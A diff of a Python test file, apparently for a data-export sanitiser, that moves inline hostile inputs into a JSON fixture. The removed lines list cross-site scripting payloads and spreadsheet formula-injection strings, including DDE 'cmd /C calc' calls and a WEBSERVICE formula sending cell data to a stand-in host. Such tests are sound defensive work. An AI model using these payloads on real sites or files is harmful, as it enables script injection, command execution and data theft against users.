@@ -2,7 +2,9 @@
 
 import csv
 import io
+import json
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -18,93 +20,9 @@ NUMBERS = {
     Kind.PERCENT: "float64",
     Kind.DAY: "datetime64[s]",
 }
-MARKUP = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src='x'/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mi xlink:href='data:text/html,x'>x</mi></math>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=data:text/html,x>",
-    "<embed src=//e.example/x.swf>",
-    "<a href='javascript:alert(1)'>Ernée</a>",
-    '<a href="https://e.example" target=_blank>Ernée</a>',
-    "<form action=//e.example><input name=x></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//e.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//e.example'>",
-    "<base href=//e.example>",
-    "<template><p>x</p></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "</td></tr></table><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onmouseover='alert(1)",
-    '"><img src=x onerror=alert(1)>',
-    "--><script>alert(1)</script><!--",
-    "]]><script>alert(1)</script>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "<b>gras</b>",
-    "a < b & c > d",
-]
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://e.example","cliquez")',
-    '=WEBSERVICE("http://e.example/?"&A1)',
-    '=IMPORTXML("http://e.example","//a")',
-    '=IMPORTDATA("http://e.example")',
-    '=DDE("cmd";"/C calc";"x")',
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-    "=SUM(A1:A9)*cmd|' /C calc'!A0",
-    '="a"&"b"',
-    "={1;2}",
-    "==1",
-    "=+1",
-    "=-1",
-    "=@A1",
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "++1",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "--1",
-    "-1",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@A1",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\r\n=1+1",
-    "\x00=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u202f-1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\u200d@A1",
-    "\u2060+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(A1)",
-    'x";=1+1',
-    "x;=1+1",
-    "x\r\n=1+1;",
-]
+HOSTILE = json.loads((Path(__file__).parents[2] / "data" / "hostile.json").read_text(encoding="utf-8"))
+MARKUP: list[str] = HOSTILE["markup"]
+FORMULAS: list[str] = HOSTILE["formulas"]
 # What a spreadsheet may skip before it looks for a formula.
 SKIPPED = " \u00a0\u202f\n\ufeff\u200b\u200c\u200d\u2060\u00ad"
 
